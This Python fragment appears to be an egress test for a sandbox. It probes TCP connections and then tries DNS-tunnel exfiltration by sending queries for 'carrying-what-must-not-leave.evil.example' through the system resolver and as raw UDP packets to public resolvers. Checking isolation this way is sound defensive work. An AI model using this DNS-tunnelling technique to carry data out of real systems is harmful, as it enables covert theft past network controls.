port = int(sys.argv[1])
names = sys.argv[2:]
for name in names:
    def connect():
        with socket.create_connection((name, port), timeout=5):
            pass

    attempt(f"connect {name}", connect)


def tunnel():
    """A query for a name that carries a secret, in each of the ways that clients ask."""
    socket.gethostbyname("carrying-what-must-not-leave.evil.example")


def by_hand():
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x1ccarrying-what-must-not-leave\x04evil\x07example\x00\x00\x10\x00\x01"
    for server in ("127.0.0.1", "127.0.0.53", "8.8.8.8", "1.1.1.1", sys.argv[1]):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(0.5)
            try:
                client.sendto(query, (server, 53))
                client.recv(512)
            except OSError:
                pass
    return False


attempt("tunnel", tunnel)
attempt("tunnel by hand", by_hand)
